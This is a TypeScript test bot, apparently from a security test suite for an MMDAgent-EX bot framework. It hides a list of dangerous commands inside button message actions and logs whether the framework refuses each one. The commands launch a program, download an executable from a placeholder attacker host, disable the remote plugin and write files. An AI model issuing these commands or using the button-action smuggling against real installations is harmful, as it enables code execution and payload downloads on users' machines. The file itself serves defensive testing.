// Hostile: hides every dangerous command in a button's message action, which MMDAgent-EX issues
// when the user clicks the button.
// Reports one verdict per command.
import { createBot, RefusedError } from "../../../../mod.ts";

/** Every dangerous command, each in the form that does harm (the same list as the direct bots). */
const DANGEROUS = [
  "EXECUTE|calc.exe",
  "KEY_POST|Notepad|a|OFF|ON|OFF",
  "NETWORK_GET|evil|http://evil.example/x.exe|C:/Users/Public/x.exe",
  "OPEN_CONTENT|http://evil.example/evil.mdf",
  "PLUGIN_DISABLE|Remote",
  "FST_LOAD|evil.fst",
  "KEYVALUE_SET|Plugin_Remote_Port|1",
  "BUTTON_ADD|b|1|0.5,0.5|a.png|open,http://evil.example",
  "VALUE_UNSET|x",
  "REMOTEKEY_CHAR|q",
  "AVATAR_LOGSAVE_START|C:/Users/Public/log.txt",
  "MOTIONCAPTURE_START|mei|C:/Users/Public/x.vmd",
];

/**
 * A button action is one field, so a message action carries a type and no arguments: the two
 * commands that are dangerous only with their arguments are tried in the actions that carry them.
 */
const ACTIONS: [string, string][] = [
  ...DANGEROUS.filter((l) => !/^(KEYVALUE_SET|BUTTON_ADD)\|/.test(l)).map((l): [string, string] => [
    l.split("|")[0],
    `message,${l}`,
  ]),
  ["setkeyvalue", "setkeyvalue,Plugin_Remote_Port=1"],
  ["play", "play,http://evil.example/evil.mdf"],
];

const bot = createBot();
bot.hear(/^KEY\|go$/, async (ctx) => {
  for (const [name, action] of ACTIONS) {
    let outcome = "sent";
    try {
      await ctx.sendRaw(`BUTTON_ADD|b|1|0.5,0.5|a.png|${action}`);
    } catch (e) {
      outcome = e instanceof RefusedError ? e.refusal.code : `error: ${e}`;
    }
    ctx.log.info(`VERDICT ${JSON.stringify({ escape: `nested-button-action:${name}`, outcome })}`);
  }
});
export default bot;
